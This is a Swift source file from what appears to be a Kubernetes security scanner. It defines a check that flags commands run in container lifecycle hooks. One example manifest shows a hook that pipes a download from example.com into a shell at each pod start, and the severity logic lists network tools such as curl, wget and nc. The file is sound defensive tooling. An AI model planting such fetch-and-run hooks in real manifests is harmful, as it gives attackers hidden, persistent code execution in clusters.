// SPDX-License-Identifier: Apache-2.0

package import Cluster
internal import Documents
package import Findings

/// Judges commands that the kubelet runs in a container when it starts or stops.
package enum ExecLifecycleHookCheck: WorkloadCheck {
    package static let description = CheckDescription(
        id: "exec-lifecycle-hook", title: "Command in a lifecycle hook", severity: .low, layer: .workload,
        rationale: """
            A postStart or preStop hook runs a command in the container beside the program. It is in no image, leaves \
            no output, and few reviews look at it.
            """,
        attack: """
            A changed manifest runs a download or a shell at every start of a pod; the program itself behaves as ever.
            """,
        rule: """
            Fires once per container whose `lifecycle.postStart` or `lifecycle.preStop` has an `exec` command other \
            than a plain sleep. Info for a preStop command without a shell, which usually asks the program to stop; \
            medium when the command downloads (curl, wget, nc).
            """,
        fix: """
            Do it in the image's entry point or in an initial container, where its output is logged. To wait before \
            the end use the hook `sleep` (v1.30 or newer).
            """,
        mappings: Mappings(owasp: ["K01"], peers: [.kubesplaining: ["KUBE-CONTAINER-LIFECYCLE-001"]]),
        references: ["https://kubernetes.io/docs/concepts/containers/container-lifecycle-hooks/", "KEP-3960"],
        examples: [
            .violating(
                "a download at each start", at: ["spec.containers[0].lifecycle.postStart.exec.command"],
                """
                apiVersion: v1
                kind: Pod
                metadata: {name: a}
                spec:
                  containers:
                  - name: web
                    image: nginx
                    lifecycle:
                      postStart:
                        exec:
                          command: ["sh", "-c", "curl -s https://example.com/setup | sh"]
                """),
            .compliant(
                "only waiting",
                """
                apiVersion: v1
                kind: Pod
                metadata: {name: a}
                spec:
                  containers:
                  - name: web
                    image: nginx
                    lifecycle:
                      preStop:
                        exec:
                          command: ["/bin/sh", "-c", "sleep 15"]
                """),
            .compliant(
                "the hook for it",
                """
                apiVersion: v1
                kind: Pod
                metadata: {name: a}
                spec:
                  containers:
                  - {name: web, image: nginx, lifecycle: {preStop: {sleep: {seconds: 5}}}}
                """),
        ])

    package static func evaluate(_ workload: Workload, _ context: Context, _ findings: inout FindingCollector) {
        for container in workload.containers {
            guard let lifecycle = container.node["lifecycle"] else { continue }
            var hooks: [(name: String, command: Node, severity: Severity)] = []
            if let command = lifecycle["postStart"]?["exec"]?["command"], !isSleep(command) {
                hooks.append(("postStart", command, severity(of: command, whenDirect: .low)))
            }
            if let command = lifecycle["preStop"]?["exec"]?["command"], !isSleep(command) {
                hooks.append(("preStop", command, severity(of: command, whenDirect: .info)))
            }
            guard let worst = hooks.map(\.severity).max() else { continue }
            let names = hooks.map(\.name).joined(separator: " and ")
            findings.add(
                "container \"\(container.name)\" runs a command at \(names)", Subject(workload, container),
                hooks.map { Evidence($0.command) }, severity: worst,
                remediation: Remediation(
                    "move the command of \(names) into the image or an initial container", .review))
        }
    }

    private static func isSleep(_ command: Node) -> Bool {
        let words = words(command)
        guard let first = words.first else { return true }
        let rest = first == "sh" || first == "bash" ? words.dropFirst().drop { $0 == "-c" } : words[...]
        guard let program = rest.first, program == "sleep" else { return false }
        return rest.dropFirst().allSatisfy { $0.allSatisfy { $0.isNumber || "smh.".contains($0) } }
    }

    private static func severity(of command: Node, whenDirect direct: Severity) -> Severity {
        let words = words(command)
        if words.contains(where: { ["curl", "wget", "nc", "ncat"].contains($0) }) { return .medium }
        let isShell = ["sh", "bash", "ash", "dash"].contains(words.first ?? "")
        return isShell ? .low : direct
    }

    /// The words of all entries, programs without their folder.
    private static func words(_ command: Node) -> [String] {
        command.elements.flatMap { entry in
            entry.scalarText.split { $0 == " " || $0 == "\n" || $0 == "\t" || $0 == ";" || $0 == "|" }
                .map { word in String(word.split(separator: "/").last ?? word) }
        }
    }
}
